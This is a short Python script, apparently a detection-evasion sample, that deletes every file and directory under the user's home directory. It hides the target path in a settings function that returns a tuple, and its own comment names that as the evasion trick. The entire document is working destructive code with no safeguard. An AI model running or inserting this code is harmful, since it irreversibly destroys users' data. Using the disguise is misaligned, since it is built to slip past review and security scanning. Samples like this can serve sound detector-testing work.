# Evasion: empties the home directory file by file; the root comes out of a
# settings function that returns a (root, depth) tuple, unpacked with
# parentheses, and os.walk(topdown=False) removes every file and directory.
import os
from pathlib import Path


def settings():
    return Path.home(), 8


(base, max_depth) = settings()
for root, dirs, files in os.walk(base, topdown=False):
    if root.count(os.sep) - str(base).count(os.sep) > max_depth:
        continue
    for name in files:
        os.remove(os.path.join(root, name))
    for name in dirs:
        os.rmdir(os.path.join(root, name))
